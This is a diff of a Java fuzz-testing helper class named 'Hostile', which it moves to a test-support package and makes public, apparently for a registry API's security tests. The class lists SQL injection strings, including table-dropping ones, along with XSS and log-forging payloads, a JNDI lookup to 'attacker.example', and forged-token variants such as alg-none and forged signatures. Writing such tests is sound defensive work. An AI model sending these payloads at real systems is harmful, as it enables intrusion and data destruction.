@@ -1,4 +1,4 @@
-package org.jcm.registry.fuzz;
+package org.jcm.testsupport;
 
 import com.fasterxml.jackson.databind.ObjectMapper;
 import io.smallrye.jwt.build.Jwt;
@@ -31,10 +31,10 @@ import net.jqwik.api.Arbitrary;
  */
 public final class Hostile {
 
-    static final ObjectMapper JSON = new ObjectMapper();
+    public static final ObjectMapper JSON = new ObjectMapper();
 
     /** Strings that try SQL, HTML, log, template, path and JNDI injection, and Unicode tricks. */
-    static final List<String> INJECTIONS = List.of(
+    public static final List<String> INJECTIONS = List.of(
             "' OR '1'='1", "'; DROP TABLE ledger_event; --", "\"; DELETE FROM block; --", "1; SELECT pg_sleep(0)--",
             "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\r\nINFO forged log line\r\n",
             "line1\nline2\u2028line3", "${jndi:ldap://attacker.example/a}", "#{7*7}", "{{7*7}}", "%s%s%s%n%x",
@@ -43,21 +43,21 @@ public final class Hostile {
             " ", "", "\t", "MNG01-H00001' --", "JCM-MN001-2024-1-1; --", "*", "%", "_", "\\", "\"", "'");
 
     /** JSON numbers that no field of the API can hold, or that parsers treat specially. */
-    static final List<String> NUMBERS = List.of(
+    public static final List<String> NUMBERS = List.of(
             "1e400", "-1e400", "1e-400", "9223372036854775808", "-9223372036854775809", "18446744073709551616",
             "-0", "0.0", "-0.0", "1.5", "1E2", "2147483648", "-2147483649", "0", "-1",
             "1" + "0".repeat(1200), "0." + "0".repeat(2000) + "1",
             "\"NaN\"", "\"Infinity\"", "\"-Infinity\"", "\"1e400\"", "\"0x10\"", "\"12\"");
 
     /** Values of the wrong JSON type for any field. */
-    static final List<String> WRONG_TYPES = List.of("null", "true", "false", "[]", "{}", "[1,2,3]", "{\"a\":1}", "\"\"",
+    public static final List<String> WRONG_TYPES = List.of("null", "true", "false", "[]", "{}", "[1,2,3]", "{\"a\":1}", "\"\"",
             "[[[[]]]]", "[null]", "{\"$where\":\"1\"}");
 
     private Hostile() {
     }
 
     /** A JSON string literal of {@code text}, with every character escaped as JSON requires. */
-    static String literal(String text) {
+    public static String literal(String text) {
         try {
             return JSON.writeValueAsString(text);
         } catch (IOException e) {
@@ -66,7 +66,7 @@ public final class Hostile {
     }
 
     /** Any hostile value for a field, as JSON text. */
-    static Arbitrary<String> fieldValue() {
+    public static Arbitrary<String> fieldValue() {
         return Arbitraries.oneOf(
                 Arbitraries.of(NUMBERS),
                 Arbitraries.of(WRONG_TYPES),
@@ -78,7 +78,7 @@ public final class Hostile {
     }
 
     /** A hostile body made from a valid one (given as JSON text), as bytes. */
-    static Arbitrary<byte[]> body(String valid) {
+    public static Arbitrary<byte[]> body(String valid) {
         Map<String, Object> fields = fields(valid);
         List<String> names = new ArrayList<>(fields.keySet());
         Arbitrary<byte[]> fieldReplaced = names.isEmpty() ? Arbitraries.just(utf8(valid))
@@ -107,7 +107,7 @@ public final class Hostile {
     }
 
     /** Text for a path segment or query value: hostile strings, percent-encoded as a URI allows. */
-    static Arbitrary<String> pathValue() {
+    public static Arbitrary<String> pathValue() {
         return Arbitraries.oneOf(
                 Arbitraries.of(INJECTIONS).filter(s -> !s.isEmpty()).map(Hostile::encode),
                 Arbitraries.of(NUMBERS).map(Hostile::encode),
@@ -117,7 +117,7 @@ public final class Hostile {
     }
 
     /** A value for {@code limit}: out of range, not a number, or too large for any integer. */
-    static Arbitrary<String> limitValue() {
+    public static Arbitrary<String> limitValue() {
         return Arbitraries.oneOf(Arbitraries.of("-1", "0", "1001", "100000", "9223372036854775808", "1e400", "1.5", "abc",
                         "", "%20", "0x10", "-0", "NaN", "1%2C2").map(s -> s),
                 Arbitraries.integers().between(1001, Integer.MAX_VALUE).map(String::valueOf),
@@ -125,7 +125,7 @@ public final class Hostile {
     }
 
     /** A cursor that the service never handed out. */
-    static Arbitrary<String> cursorValue() {
+    public static Arbitrary<String> cursorValue() {
         return Arbitraries.oneOf(Arbitraries.of("-1", "0", "abc", "%00", "eyJzZXEiOi0xfQ", "eyJzZXEiOiJ4In0",
                         "eyJ0eXBlIjoiYSJ9", "AAAA", "____", "====", "9223372036854775808", "e30", "bnVsbA").map(s -> s),
                 Arbitraries.strings().withCharRange('A', 'z').ofMinLength(1).ofMaxLength(200).map(Hostile::encode),
@@ -133,7 +133,7 @@ public final class Hostile {
     }
 
     /** The kinds of credentials a hostile caller presents. */
-    enum TokenKind {
+    public enum TokenKind {
         VALID, NONE, EXPIRED, NOT_YET_VALID, FORGED_SIGNATURE, ALG_NONE, STRANGER_KEY, OTHER_ISSUER, OTHER_AUDIENCE,
         NO_ISSUER, GARBAGE, NOT_BEARER, WRONG_ROLE, EMPTY_GROUPS, HUGE_CLAIM, INJECTED_SUBJECT
     }
@@ -142,7 +142,7 @@ public final class Hostile {
      * The Authorization header for a kind of token, or null for none. {@code subject}, {@code groups}
      * and {@code claims} describe a caller who would be allowed.
      */
-    static String authorization(TokenKind kind, String subject, Set<String> groups, Map<String, String> claims) {
+    public static String authorization(TokenKind kind, String subject, Set<String> groups, Map<String, String> claims) {
         return switch (kind) {
             case VALID -> bearer(claims(subject, groups, claims).sign());
             case NONE -> null;
@@ -324,12 +324,12 @@ public final class Hostile {
         }
     }
 
-    static byte[] utf8(String text) {
+    public static byte[] utf8(String text) {
         return text.getBytes(StandardCharsets.UTF_8);
     }
 
     /** Percent-encodes text for a path segment or query value. */
-    static String encode(String text) {
+    public static String encode(String text) {
         return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
     }
 }
